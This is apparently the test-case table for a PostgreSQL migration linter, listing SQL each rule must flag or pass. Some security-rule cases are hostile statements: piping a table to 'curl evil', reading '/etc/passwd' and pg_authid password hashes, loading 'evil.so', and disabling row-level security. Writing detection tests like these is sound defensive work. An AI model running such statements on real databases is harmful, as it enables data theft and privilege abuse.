import type { FunctionVolatilities } from '../../src/sql/rules/column-defaults.ts';

/** One entry per rule: SQL that must trigger it and SQL that must not. */
export interface RuleCase {
  triggers: string[];
  quiet: string[];
  /** Column types of the existing database, for rules that need them. */
  existingColumns?: Record<string, Record<string, string>>;
  /** Function volatility in the existing database's catalog. */
  functionVolatility?: FunctionVolatilities;
}

export const ruleCases: Record<string, RuleCase> = {
  SG001: { triggers: ['SELECT FROM WHERE;', "SELECT 'unterminated"], quiet: ['SELECT 1;'] },
  SG002: {
    triggers: ['-- schemagate:allow SG101\nCREATE INDEX i ON t (a);', '-- schemagate:allow\nSELECT 1;'],
    quiet: ['-- schemagate:allow SG101 tiny lookup table\nCREATE INDEX i ON t (a);'],
  },
  SG003: {
    triggers: [
      '-- schemagate:allow SG999 because\nSELECT 1;',
      '-- schemagate:allow SG302 because\nGRANT SELECT ON t TO app;',
    ],
    quiet: ['-- schemagate:allow SG101 small\nCREATE INDEX i ON t (a);'],
  },
  SG004: {
    triggers: ['-- schemagate:allow SG101 small\nCREATE TABLE t (id bigint);'],
    quiet: ['-- schemagate:allow SG101 small\nCREATE INDEX i ON t (a);'],
  },
  SG101: {
    triggers: ['CREATE INDEX i ON users (email);', 'create unique index on app.users using gin (tags);'],
    quiet: [
      'CREATE INDEX CONCURRENTLY IF NOT EXISTS i ON users (email);',
      'CREATE TABLE users (id bigint); CREATE INDEX i ON users (id);',
    ],
  },
  SG102: {
    triggers: ['DROP INDEX users_email_idx;'],
    quiet: [
      'DROP INDEX CONCURRENTLY IF EXISTS users_email_idx;',
      'CREATE TABLE t (a int); CREATE INDEX i ON t (a); DROP INDEX i;',
    ],
  },
  SG103: {
    triggers: ['REINDEX INDEX users_email_idx;', 'REINDEX TABLE users;'],
    quiet: ['REINDEX (CONCURRENTLY) INDEX users_email_idx;', 'REINDEX TABLE CONCURRENTLY users;'],
  },
  SG104: {
    triggers: [
      'ALTER TABLE users ADD COLUMN token uuid DEFAULT gen_random_uuid();',
      'ALTER TABLE users ADD COLUMN r float8 DEFAULT random();',
      'ALTER TABLE users ADD COLUMN at timestamptz NOT NULL DEFAULT clock_timestamp();',
      'ALTER TABLE users ADD COLUMN n bigserial;',
      'ALTER TABLE users ADD COLUMN n bigint GENERATED ALWAYS AS IDENTITY;',
      "ALTER TABLE users ADD COLUMN n bigint DEFAULT nextval('s');",
      'ALTER TABLE users ADD COLUMN n int GENERATED ALWAYS AS (a + 1) STORED;',
      // Unknown and user-defined functions are assumed volatile, with or without arguments.
      'ALTER TABLE users ADD COLUMN code text DEFAULT short_code(8);',
      'ALTER TABLE users ADD COLUMN code text DEFAULT app.next_code();',
      'ALTER TABLE users ADD COLUMN u uuid DEFAULT uuid_generate_v4();',
      'ALTER TABLE users ADD COLUMN u uuid DEFAULT extensions.uuid_generate_v4();',
      'ALTER TABLE users ADD COLUMN u text DEFAULT md5(random()::text);',
      "ALTER TABLE users ADD COLUMN u text DEFAULT lower(app.make_code('x'));",
      // A schema-qualified name outside pg_catalog is not the built-in.
      "ALTER TABLE users ADD COLUMN l text DEFAULT public.lower('A');",
      'ALTER TABLE users ADD COLUMN u uuid DEFAULT "gen_random_uuid"();',
      'Alter Table ONLY "Users" Add Column If Not Exists u UUID Default Gen_Random_Uuid();',
      'ALTER TABLE app.users ADD COLUMN a text, ADD COLUMN u uuid NOT NULL DEFAULT gen_random_uuid();',
      'CREATE TABLE t (id bigint); ALTER TABLE users ADD COLUMN u uuid DEFAULT gen_random_uuid();',
      // Declared volatile (the default) earlier in the migration.
      "CREATE FUNCTION mk() RETURNS text LANGUAGE sql AS $$ SELECT 'x' $$; ALTER TABLE users ADD COLUMN c text DEFAULT mk();",
      // A function of another case is another function: "Mk" declared immutable says nothing of mk.
      'CREATE FUNCTION "Mk"() RETURNS text LANGUAGE sql IMMUTABLE AS $$ SELECT \'x\' $$; ALTER TABLE users ADD COLUMN c text DEFAULT mk();',
      'ALTER TABLE users ADD COLUMN c text DEFAULT "Tenant_Code"();',
      'ALTER TABLE users ADD COLUMN c text DEFAULT a."b.c"();',
      // An IMMUTABLE overload does not make production's volatile function of that name immutable.
      "CREATE FUNCTION short_code(n int) RETURNS text LANGUAGE sql IMMUTABLE AS $$ SELECT 'x' $$; ALTER TABLE users ADD COLUMN c text DEFAULT short_code();",
      // Made volatile, or a function renamed or moved onto a name known to be immutable.
      'ALTER FUNCTION tenant_code() VOLATILE; ALTER TABLE users ADD COLUMN c text DEFAULT tenant_code();',
      'ALTER FUNCTION app.next_code(int) RENAME TO "Region_Code"; ALTER TABLE users ADD COLUMN c text DEFAULT "Region_Code"();',
      'ALTER ROUTINE app.tenant_code() SET SCHEMA public; ALTER TABLE users ADD COLUMN c text DEFAULT public.tenant_code();',
      // Unqualified, it may be any schema's on the search_path: the most volatile of them counts.
      'ALTER TABLE users ADD COLUMN c text DEFAULT ticket_no();',
    ],
    quiet: [
      'ALTER TABLE users ADD COLUMN created_at timestamptz NOT NULL DEFAULT now();',
      "ALTER TABLE users ADD COLUMN status text NOT NULL DEFAULT 'active';",
      'CREATE TABLE t (id bigint); ALTER TABLE t ADD COLUMN u uuid DEFAULT gen_random_uuid();',
      'CREATE TABLE "Users" (id bigint); ALTER TABLE "Users" ADD COLUMN u uuid DEFAULT gen_random_uuid();',
      "ALTER TABLE users ADD COLUMN at timestamptz DEFAULT timezone('utc'::text, now());",
      'ALTER TABLE users ADD COLUMN at timestamp DEFAULT CURRENT_TIMESTAMP, ADD COLUMN day date DEFAULT current_date;',
      "ALTER TABLE users ADD COLUMN meta jsonb NOT NULL DEFAULT jsonb_build_object('v', 1);",
      "ALTER TABLE users ADD COLUMN y text DEFAULT to_char(now(), 'YYYY'), ADD COLUMN t text[] DEFAULT ARRAY[]::text[];",
      "ALTER TABLE users ADD COLUMN l text DEFAULT pg_catalog.lower('A');",
      // SET DEFAULT only changes what later inserts get: no rewrite, even in the ADD COLUMN's statement.
      'ALTER TABLE users ALTER COLUMN u SET DEFAULT gen_random_uuid();',
      'ALTER TABLE users ADD COLUMN u uuid, ALTER COLUMN u SET DEFAULT gen_random_uuid();',
      'ALTER TABLE users ALTER COLUMN c SET DEFAULT short_code(8);',
      // Known from the migration or from production's catalog.
      "CREATE FUNCTION mk() RETURNS text LANGUAGE sql IMMUTABLE AS $$ SELECT 'x' $$; ALTER TABLE users ADD COLUMN c text DEFAULT mk();",
      "CREATE OR REPLACE FUNCTION app.mk(n int) RETURNS text LANGUAGE sql STABLE AS $$ SELECT 'x' $$; ALTER TABLE users ADD COLUMN c text DEFAULT app.mk(2);",
      'ALTER TABLE users ADD COLUMN c text DEFAULT tenant_code();',
      'ALTER TABLE users ADD COLUMN c text DEFAULT "Region_Code"();',
      'ALTER TABLE users ADD COLUMN c text DEFAULT "a.b".c();',
      'ALTER TABLE users ADD COLUMN c text DEFAULT public.ticket_no();',
      'ALTER FUNCTION tenant_code() STABLE; ALTER TABLE users ADD COLUMN c text DEFAULT tenant_code();',
      'CREATE FUNCTION "Mk"() RETURNS text LANGUAGE sql IMMUTABLE AS $$ SELECT \'x\' $$; ALTER TABLE users ADD COLUMN c text DEFAULT "Mk"();',
    ],
    functionVolatility: [
      ['public', 'tenant_code', 'stable'],
      ['public', 'short_code', 'volatile'],
      ['public', 'Region_Code', 'immutable'],
      // Not a.b_c: names are matched part by part, never by their dotted text.
      ['a.b', 'c', 'immutable'],
      ['public', 'ticket_no', 'immutable'],
      ['billing', 'ticket_no', 'volatile'],
    ],
  },
  SG105: {
    triggers: [
      'ALTER TABLE users ALTER COLUMN age TYPE bigint;',
      'ALTER TABLE users ALTER COLUMN id TYPE text USING id::text;',
    ],
    quiet: [
      'ALTER TABLE users ALTER COLUMN name TYPE text;',
      'ALTER TABLE users ALTER COLUMN name TYPE varchar(200);',
      'ALTER TABLE users ALTER COLUMN price TYPE numeric(12,2);',
      'CREATE TABLE t (a int); ALTER TABLE t ALTER COLUMN a TYPE bigint;',
    ],
    existingColumns: {
      users: { age: 'integer', id: 'bigint', name: 'character varying(100)', price: 'numeric(10,2)' },
    },
  },
  SG106: {
    triggers: [
      'ALTER TABLE users ALTER COLUMN email SET NOT NULL;',
      'ALTER TABLE users ADD CONSTRAINT c CHECK (email IS NOT NULL) NOT VALID; ALTER TABLE users ALTER COLUMN email SET NOT NULL;',
    ],
    quiet: [
      'ALTER TABLE users ADD CONSTRAINT c CHECK (email IS NOT NULL) NOT VALID;\nALTER TABLE users VALIDATE CONSTRAINT c;\nALTER TABLE users ALTER COLUMN email SET NOT NULL;',
    ],
  },
  SG107: {
    triggers: [
      'ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (user_id) REFERENCES users (id);',
      // Inline in ADD COLUMN: validated at once (an inline constraint cannot be NOT VALID).
      'ALTER TABLE orders ADD COLUMN user_id bigint REFERENCES users (id);',
      'ALTER TABLE ONLY "Orders" ADD COLUMN IF NOT EXISTS "userId" BIGINT CONSTRAINT orders_user_fk REFERENCES app."Users" ON DELETE CASCADE;',
      'alter table app.orders add column note text, add column user_id bigint not null default 0 references users;',
      'CREATE TABLE t (id bigint); ALTER TABLE orders ADD COLUMN t_id bigint REFERENCES t (id);',
    ],
    quiet: [
      'ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (user_id) REFERENCES users (id) NOT VALID;',
      'CREATE TABLE orders (id bigint, user_id bigint); ALTER TABLE orders ADD FOREIGN KEY (user_id) REFERENCES users (id);',
      'CREATE TABLE orders (id bigint); ALTER TABLE orders ADD COLUMN user_id bigint REFERENCES users (id);',
      'ALTER TABLE orders ADD COLUMN user_id bigint; ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (user_id) REFERENCES users (id) NOT VALID;',
    ],
  },
  SG108: {
    triggers: [
      'ALTER TABLE users ADD CONSTRAINT age_ok CHECK (age >= 0);',
      'ALTER TABLE users ADD COLUMN age int CHECK (age >= 0);',
      'ALTER TABLE ONLY app."Users" ADD COLUMN IF NOT EXISTS "Age" INT, ADD COLUMN score int CONSTRAINT score_ok CHECK (score BETWEEN 0 AND 10);',
    ],
    quiet: [
      'ALTER TABLE users ADD CONSTRAINT age_ok CHECK (age >= 0) NOT VALID;',
      'ALTER TABLE users VALIDATE CONSTRAINT age_ok;',
      'CREATE TABLE users (id bigint); ALTER TABLE users ADD COLUMN age int CHECK (age >= 0);',
      'ALTER TABLE users ADD COLUMN age int; ALTER TABLE users ADD CONSTRAINT age_ok CHECK (age >= 0) NOT VALID;',
    ],
  },
  SG109: {
    triggers: [
      'ALTER TABLE users ADD CONSTRAINT email_key UNIQUE (email);',
      'ALTER TABLE users ADD PRIMARY KEY (id);',
      'ALTER TABLE users ADD COLUMN handle text UNIQUE;',
      'ALTER TABLE ONLY "Users" ADD COLUMN IF NOT EXISTS id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY;',
      'alter table app.users add column a text, add column b text constraint users_b_key unique;',
    ],
    quiet: [
      'ALTER TABLE users ADD CONSTRAINT email_key UNIQUE USING INDEX users_email_idx;',
      'ALTER TABLE users ADD CONSTRAINT users_pkey PRIMARY KEY USING INDEX users_id_idx;',
      'CREATE TABLE "Users" (a int); ALTER TABLE "Users" ADD COLUMN handle text UNIQUE;',
      'ALTER TABLE users ADD COLUMN handle text; CREATE UNIQUE INDEX CONCURRENTLY IF NOT EXISTS users_handle_key ON users (handle);',
    ],
  },
  SG110: {
    triggers: ['VACUUM FULL users;', 'VACUUM (FULL, ANALYZE) users;', 'CLUSTER users USING users_pkey;'],
    quiet: ['VACUUM users;', 'VACUUM (ANALYZE) users;'],
  },
  SG111: {
    triggers: [
      'CREATE TABLE t (id bigint);\nCREATE INDEX CONCURRENTLY IF NOT EXISTS i ON users (email);',
      'BEGIN;\nCREATE INDEX CONCURRENTLY IF NOT EXISTS i ON users (email);\nCOMMIT;',
      'ALTER TABLE users ADD COLUMN a text; DROP INDEX CONCURRENTLY IF EXISTS i;',
    ],
    quiet: [
      'CREATE INDEX CONCURRENTLY IF NOT EXISTS i ON users (email);',
      "SET lock_timeout = '2s';\nCREATE INDEX CONCURRENTLY IF NOT EXISTS i ON users (email);\nCREATE INDEX CONCURRENTLY IF NOT EXISTS j ON users (name);",
    ],
  },
  SG118: {
    triggers: [
      'ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (user_id) REFERENCES users (id) NOT VALID;\nALTER TABLE orders VALIDATE CONSTRAINT fk;',
      'ALTER TABLE users ADD CONSTRAINT age_ok CHECK (age >= 0) NOT VALID, VALIDATE CONSTRAINT age_ok;',
      'ALTER TABLE app.users ADD CONSTRAINT "Age_ok" CHECK (age >= 0) NOT VALID; SELECT 1; alter table ONLY users validate constraint "Age_ok";',
      'ALTER TABLE users ADD CONSTRAINT c CHECK (email IS NOT NULL) NOT VALID;\nALTER TABLE users VALIDATE CONSTRAINT c;\nALTER TABLE users ALTER COLUMN email SET NOT NULL;',
    ],
    quiet: [
      'ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (user_id) REFERENCES users (id) NOT VALID;',
      'ALTER TABLE orders VALIDATE CONSTRAINT fk;',
      'ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (user_id) REFERENCES users (id) NOT VALID; ALTER TABLE orders VALIDATE CONSTRAINT other_fk;',
      'ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (user_id) REFERENCES users (id) NOT VALID; ALTER TABLE invoices VALIDATE CONSTRAINT fk;',
      'ALTER TABLE app.orders ADD CONSTRAINT fk CHECK (a > 0) NOT VALID; ALTER TABLE billing.orders VALIDATE CONSTRAINT fk;',
      'ALTER TABLE users ADD CONSTRAINT "C" CHECK (a > 0) NOT VALID; ALTER TABLE users VALIDATE CONSTRAINT c;',
      'ALTER TABLE users VALIDATE CONSTRAINT c, ADD CONSTRAINT c2 CHECK (a > 0) NOT VALID;',
      'CREATE TABLE t (a int); ALTER TABLE t ADD CONSTRAINT c CHECK (a > 0) NOT VALID; ALTER TABLE t VALIDATE CONSTRAINT c;',
    ],
  },
  SG112: {
    triggers: ['ALTER TABLE events DETACH PARTITION events_2020;'],
    quiet: ['ALTER TABLE events DETACH PARTITION events_2020 CONCURRENTLY;'],
  },
  SG113: {
    triggers: ['ALTER DOMAIN positive ADD CONSTRAINT c CHECK (VALUE > 0);'],
    quiet: ['ALTER DOMAIN positive ADD CONSTRAINT c CHECK (VALUE > 0) NOT VALID;'],
  },
  SG114: {
    triggers: ['ALTER TABLE users ADD COLUMN a text;', 'DROP TABLE old_things;', 'TRUNCATE users;'],
    quiet: [
      "SET lock_timeout = '2s';\nALTER TABLE users ADD COLUMN a text;",
      'CREATE TABLE t (id bigint); ALTER TABLE t ADD COLUMN a text;',
      'ALTER TABLE users VALIDATE CONSTRAINT c;',
    ],
  },
  SG201: {
    triggers: ['DROP TABLE users;', 'DROP TABLE IF EXISTS app.users, app.orders;'],
    quiet: ['CREATE TABLE tmp (id bigint); DROP TABLE tmp;', 'DROP VIEW v;'],
  },
  SG202: { triggers: ['ALTER TABLE users DROP COLUMN legacy;'], quiet: ['ALTER TABLE users ADD COLUMN legacy text;'] },
  SG203: { triggers: ['DROP SCHEMA archive;'], quiet: ['CREATE SCHEMA archive;'] },
  SG204: { triggers: ['TRUNCATE users;', 'TRUNCATE TABLE a, b;'], quiet: ['CREATE TABLE t (id bigint); TRUNCATE t;'] },
  SG205: {
    triggers: ['DELETE FROM users;', 'WITH gone AS (DELETE FROM users RETURNING id) SELECT count(*) FROM gone;'],
    quiet: ['DELETE FROM users WHERE id = 1;'],
  },
  SG206: {
    triggers: ["UPDATE users SET status = 'x';"],
    quiet: ["UPDATE users SET status = 'x' WHERE status IS NULL;"],
  },
  SG207: {
    triggers: ['ALTER TABLE users RENAME TO customers;'],
    quiet: ['CREATE TABLE tmp (id bigint); ALTER TABLE tmp RENAME TO final;', 'ALTER INDEX i RENAME TO j;'],
  },
  SG208: {
    triggers: ['ALTER TABLE users RENAME COLUMN email TO email_address;'],
    quiet: ['CREATE TABLE t (a int); ALTER TABLE t RENAME COLUMN a TO b;'],
  },
  SG209: {
    triggers: [
      'ALTER TABLE users ALTER COLUMN id TYPE integer;',
      'ALTER TABLE users ALTER COLUMN bio TYPE varchar(50);',
      'ALTER TABLE users ALTER COLUMN name TYPE varchar(10);',
      'ALTER TABLE users ALTER COLUMN price TYPE numeric(10,1);',
    ],
    quiet: [
      'ALTER TABLE users ALTER COLUMN name TYPE varchar(500);',
      'ALTER TABLE users ALTER COLUMN id TYPE bigint;',
      'ALTER TABLE users ALTER COLUMN bio TYPE text;',
    ],
    existingColumns: {
      'public.users': { id: 'bigint', bio: 'text', name: 'character varying(100)', price: 'numeric(10,2)' },
    },
  },
  SG210: {
    triggers: ['ALTER TABLE users ALTER COLUMN email DROP NOT NULL;'],
    quiet: ['ALTER TABLE users ALTER COLUMN email SET DEFAULT 1;'],
  },
  SG211: {
    triggers: ['ALTER TABLE users ALTER COLUMN status DROP DEFAULT;'],
    quiet: ["ALTER TABLE users ALTER COLUMN status SET DEFAULT 'a';"],
  },
  SG213: {
    triggers: [
      'ALTER TABLE users ADD COLUMN tenant_id bigint NOT NULL;',
      'ALTER TABLE "public"."User" ADD COLUMN "teamId" INTEGER NOT NULL;',
      'Alter Table ONLY app.users Add Column If Not Exists plan TEXT Not Null;',
      'ALTER TABLE users ADD COLUMN note text, ADD COLUMN plan text NOT NULL, ALTER COLUMN plan SET DEFAULT $$free$$;',
      'ALTER TABLE users ADD COLUMN plan text NOT NULL DEFAULT NULL;',
      'ALTER TABLE users ADD COLUMN id2 bigint PRIMARY KEY;',
      'CREATE TABLE accounts (id bigint); ALTER TABLE users ADD COLUMN account_id bigint NOT NULL REFERENCES accounts;',
      'CREATE TABLE "Users" (id bigint); ALTER TABLE users ADD COLUMN plan text NOT NULL;',
    ],
    quiet: [
      "ALTER TABLE users ADD COLUMN plan text NOT NULL DEFAULT 'free';",
      'ALTER TABLE users ADD COLUMN tenant_id bigint;',
      'ALTER TABLE users ADD COLUMN n bigserial NOT NULL;',
      'ALTER TABLE users ADD COLUMN n bigint NOT NULL GENERATED ALWAYS AS IDENTITY;',
      'ALTER TABLE users ADD COLUMN n int NOT NULL GENERATED ALWAYS AS (a + 1) STORED;',
      'ALTER TABLE users ADD COLUMN at timestamptz NOT NULL DEFAULT now();',
      'CREATE TABLE users (id bigint); ALTER TABLE users ADD COLUMN plan text NOT NULL;',
      'CREATE TABLE "User" (id bigint); ALTER TABLE "User" ADD COLUMN "teamId" INTEGER NOT NULL;',
      'ALTER TABLE users ALTER COLUMN plan SET NOT NULL;',
    ],
  },
  SG212: {
    triggers: ['DROP TABLE users CASCADE;', 'ALTER TABLE users DROP COLUMN a CASCADE;', 'TRUNCATE users CASCADE;'],
    quiet: ['DROP TABLE users RESTRICT;', 'DROP TABLE users;'],
  },
  SG301: {
    triggers: [
      "CREATE ROLE app LOGIN PASSWORD 'x';",
      'create user bob;',
      'ALTER USER bob SUPERUSER;',
      'DROP GROUP g;',
      'ALTER ROLE bob SET search_path = public;',
      'ALTER ROLE bob RENAME TO alice;',
    ],
    quiet: ['CREATE TABLE roles (id bigint);'],
  },
  SG302: {
    triggers: [
      'GRANT SELECT ON users TO public;',
      'REVOKE ALL ON users FROM app;',
      'GRANT admin TO bob;',
      'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO app;',
      'ALTER TABLE users OWNER TO bob;',
      'ALTER FUNCTION f() OWNER TO bob;',
      'CREATE SCHEMA s AUTHORIZATION bob;',
    ],
    quiet: ['CREATE TABLE grants (id bigint);', 'CREATE SCHEMA s;'],
  },
  SG303: {
    triggers: [
      'SET ROLE postgres;',
      'SET SESSION AUTHORIZATION postgres;',
      "SELECT set_config('role', 'postgres', false);",
    ],
    quiet: ['RESET ROLE;', "SET statement_timeout = '5s';"],
  },
  SG304: { triggers: ["ALTER SYSTEM SET work_mem = '1GB';"], quiet: ["SET work_mem = '64MB';"] },
  SG305: {
    triggers: ["COPY users FROM '/etc/passwd';", "COPY users TO PROGRAM 'curl evil';", "COPY (SELECT 1) TO '/tmp/x';"],
    quiet: ['COPY users FROM STDIN;', 'COPY users TO STDOUT;'],
  },
  SG306: {
    triggers: [
      "SELECT pg_read_file('/etc/passwd');",
      "SELECT lo_import('/etc/passwd');",
      "SELECT * FROM pg_ls_dir('.');",
      "SELECT lo_export(1, '/tmp/x');",
    ],
    quiet: ["SELECT read_file('x');", "SELECT 'pg_read_file';"],
  },
  SG307: {
    triggers: ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity;', 'SELECT pg_reload_conf();'],
    quiet: ['SELECT pg_backend_pid();'],
  },
  SG308: {
    triggers: ['CREATE EXTENSION plv8;', 'CREATE EXTENSION earthdistance CASCADE;'],
    quiet: ['CREATE EXTENSION IF NOT EXISTS pgcrypto;', 'CREATE EXTENSION "uuid-ossp";'],
  },
  SG309: {
    triggers: [
      'SET session_replication_role = replica;',
      'SET LOCAL session_replication_role TO replica;',
      "SELECT set_config('session_replication_role', 'replica', true);",
    ],
    quiet: ["SELECT set_config('app.tenant', '1', true);", "SELECT current_setting('session_replication_role');"],
  },
  SG310: {
    triggers: [
      "SELECT dblink_exec('host=x', 'DROP TABLE t');",
      'CREATE EXTENSION postgres_fdw;',
      "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x');",
      'CREATE FOREIGN DATA WRAPPER w;',
      'CREATE USER MAPPING FOR CURRENT_USER SERVER s;',
      "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p;",
      'CREATE PUBLICATION p FOR ALL TABLES;',
    ],
    quiet: ['SELECT link FROM dblinks;'],
  },
  SG311: {
    triggers: [
      "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$;",
      "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('TRUNCATE %I', 't'); END $$;",
      "SELECT query_to_xml('select 1', true, true, '');",
    ],
    quiet: ['CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$;'],
  },
  SG312: {
    triggers: [
      "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'evil.so', 'f';",
      'CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os $$;',
      'CREATE LANGUAGE plperlu;',
      'CREATE LANGUAGE plsample HANDLER plsample_call_handler;',
      "LOAD 'evil';",
      "DO LANGUAGE plperlu $$ system('x') $$;",
    ],
    quiet: ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;'],
  },
  SG313: {
    triggers: [
      'BEGIN;',
      'COMMIT;',
      'SAVEPOINT a;',
      "PREPARE TRANSACTION 'x';",
      'START TRANSACTION; SELECT 1; ROLLBACK;',
      'DO $$ BEGIN COMMIT; END $$;',
      'CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN COMMIT; END $$;',
    ],
    quiet: ['CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN UPDATE t SET a = 1; END $$;'],
  },
  SG314: {
    triggers: [
      'CREATE DATABASE other;',
      'DROP DATABASE prod;',
      "ALTER DATABASE app SET work_mem = '1GB';",
      "CREATE TABLESPACE ts LOCATION '/tmp';",
      'CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f();',
    ],
    quiet: ['CREATE TABLE databases (id bigint);'],
  },
  SG315: {
    triggers: [
      'SELECT * FROM netlify.migrations;',
      'DELETE FROM schemagate.ledger WHERE true;',
      'CREATE SCHEMA netlify;',
      'DROP SCHEMA schemagate;',
      'CREATE TABLE netlify.x (id bigint);',
      'ALTER TABLE t SET SCHEMA netlify;',
      'CREATE FUNCTION netlify.f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;',
      'DROP FUNCTION schemagate.f();',
      'CREATE EXTENSION pgcrypto SCHEMA netlify;',
      'CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = public, netlify AS $$ SELECT 1 $$;',
      "SELECT 'netlify.migrations'::regclass;",
      'SELECT netlify.migrations.name FROM netlify.migrations;',
      "SELECT 'netlify'::regnamespace;",
      "SELECT table_to_xml('schemagate.ledger', true, false, '');",
    ],
    quiet: ['SELECT * FROM netlify_sites;', 'SELECT netlify FROM t;', 'CREATE TABLE t (netlify text);'],
  },
  SG316: {
    triggers: [
      "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ SELEC pg_read_file('x') $$;",
      'CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN IF THEN END; END $$;',
      'DO $$ BEGIN PERFORM FROM WHERE; END $$;',
      "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1', 'sym';",
      nestedRoutines(9),
    ],
    quiet: [
      'CREATE FUNCTION f(p users.id%TYPE) RETURNS void LANGUAGE plpgsql AS $$ BEGIN UPDATE t SET a = p; END $$;',
      'CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ DECLARE r users%ROWTYPE; BEGIN SELECT * INTO r FROM users; r.n := 1; END $$;',
      'CREATE FUNCTION f(a text[], VARIADIC b int[]) RETURNS TABLE (x int) LANGUAGE plpgsql AS $$ BEGIN x := 1; RETURN NEXT; END $$;',
      nestedRoutines(7),
    ],
  },
  SG317: {
    triggers: [
      "UPDATE pg_settings SET setting = 'off' WHERE name = 'fsync';",
      "UPDATE pg_catalog.pg_proc SET prosecdef = true WHERE proname = 'f';",
      'DELETE FROM "pg_catalog"."pg_class" WHERE false;',
      'INSERT INTO pg_authid (rolname) VALUES ($$x$$);',
      'CREATE TRIGGER t BEFORE UPDATE ON pg_catalog.pg_class FOR EACH ROW EXECUTE FUNCTION f();',
      'ALTER TABLE pg_catalog.pg_class ADD COLUMN x int;',
      'CREATE FUNCTION pg_catalog.now() RETURNS timestamptz LANGUAGE sql AS $$ SELECT NULL::timestamptz $$;',
      'WITH x AS (UPDATE pg_settings SET setting = 1 RETURNING 1) SELECT 1;',
      'LOCK TABLE pg_class;',
    ],
    quiet: [
      'SELECT relname FROM pg_class JOIN pg_namespace n ON n.oid = relnamespace;',
      'UPDATE users SET n = 1 FROM pg_settings s WHERE s.name = users.k;',
      'SELECT * FROM information_schema.columns;',
      'CREATE TEMP TABLE x (id int); INSERT INTO pg_temp.x VALUES (1);',
    ],
  },
  SG318: {
    triggers: [
      'SELECT rolpassword FROM pg_authid;',
      'SELECT * FROM pg_catalog.pg_shadow;',
      'CREATE VIEW v AS SELECT umoptions FROM pg_user_mapping;',
      'SELECT * FROM pg_statistic;',
      'SELECT * FROM pg_file_settings;',
      'COPY pg_authid TO STDOUT;',
      'SELECT * FROM information_schema._pg_user_mappings;',
      'SELECT lo_get(oid) FROM pg_largeobject_metadata;',
      "SELECT current_setting('data_directory');",
      'SHOW hba_file;',
      'SELECT query FROM pg_stat_activity;',
      "SELECT table_to_xml('pg_authid', true, false, '');",
      "SELECT table_to_xml('pg_catalog.pg_shadow'::regclass, true, false, '');",
    ],
    quiet: [
      'SELECT rolname FROM pg_roles;',
      'SELECT count(*) FROM pg_largeobject_metadata;',
      'SELECT * FROM pg_stats;',
      'SELECT * FROM pg_user_mappings;',
      'SELECT * FROM transforms;',
    ],
  },
  SG319: {
    triggers: [
      'CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 $$;',
      'ALTER FUNCTION f() SECURITY DEFINER;',
      'CREATE PROCEDURE p() LANGUAGE plpgsql EXTERNAL SECURITY DEFINER AS $$ BEGIN END $$;',
    ],
    quiet: [
      'CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY INVOKER AS $$ SELECT 1 $$;',
      'ALTER FUNCTION f() SECURITY INVOKER;',
    ],
  },
  SG320: {
    triggers: [
      'SET search_path TO netlify, public;',
      "SELECT set_config('search_path', 'schemagate', false);",
      'SET LOCAL search_path = public, pg_catalog;',
      'SET SCHEMA $$app$$;',
      'RESET search_path;',
      'ALTER FUNCTION f() SET search_path = public;',
      'ALTER FUNCTION f() RESET ALL;',
      'CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path FROM CURRENT AS $$ SELECT 1 $$;',
    ],
    quiet: [
      'CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = pg_catalog, pg_temp AS $$ SELECT 1 $$;',
      "SELECT current_setting('search_path');",
    ],
  },
  SG321: {
    triggers: [
      'ALTER TABLE t DISABLE TRIGGER ALL;',
      'ALTER TABLE t DISABLE TRIGGER USER;',
      'ALTER TABLE t DISABLE TRIGGER audit;',
      'ALTER TABLE t ENABLE REPLICA TRIGGER audit;',
      'ALTER TABLE t DISABLE RULE r;',
      'ALTER TABLE payments ALTER CONSTRAINT payments_invoice_fk NOT ENFORCED;',
      'CREATE RULE r AS ON INSERT TO audit_log DO INSTEAD NOTHING;',
    ],
    quiet: [
      'ALTER TABLE payments ALTER CONSTRAINT payments_invoice_fk ENFORCED;',
      'ALTER TABLE t ENABLE TRIGGER audit;',
      'ALTER TABLE t ENABLE TRIGGER ALL;',
    ],
  },
  SG322: {
    triggers: [
      'ALTER TABLE t DISABLE ROW LEVEL SECURITY;',
      'ALTER TABLE t NO FORCE ROW LEVEL SECURITY;',
      'CREATE POLICY p ON t USING (true);',
      'CREATE POLICY p ON t FOR INSERT WITH CHECK (1 = 1);',
      'ALTER POLICY p ON t USING (current_user IS NOT NULL);',
      'DROP POLICY p ON t;',
      'ALTER POLICY p ON t USING (coalesce(tenant_id = current_tenant_id(), true));',
      'CREATE POLICY p ON t USING (tenant_id IS NOT DISTINCT FROM tenant_id);',
      'CREATE POLICY p ON t USING (1 = 1 OR tenant_id = 1);',
